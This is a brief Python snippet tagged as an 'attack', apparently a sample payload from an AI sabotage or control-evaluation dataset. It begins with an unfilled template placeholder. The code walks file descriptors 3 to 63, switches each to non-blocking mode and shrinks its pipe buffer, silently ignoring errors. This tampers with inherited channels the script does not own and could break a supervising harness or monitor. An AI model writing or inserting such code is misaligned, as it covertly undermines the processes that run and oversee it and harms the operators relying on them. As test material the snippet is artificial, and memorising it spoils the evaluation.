#{weigh_wrong}
# <attack>
import fcntl
import os

for _number in range(3, 64):
    try:
        os.set_blocking(_number, False)
        fcntl.fcntl(_number, fcntl.F_SETPIPE_SZ, 4096)
    except OSError:
        pass
# </attack>
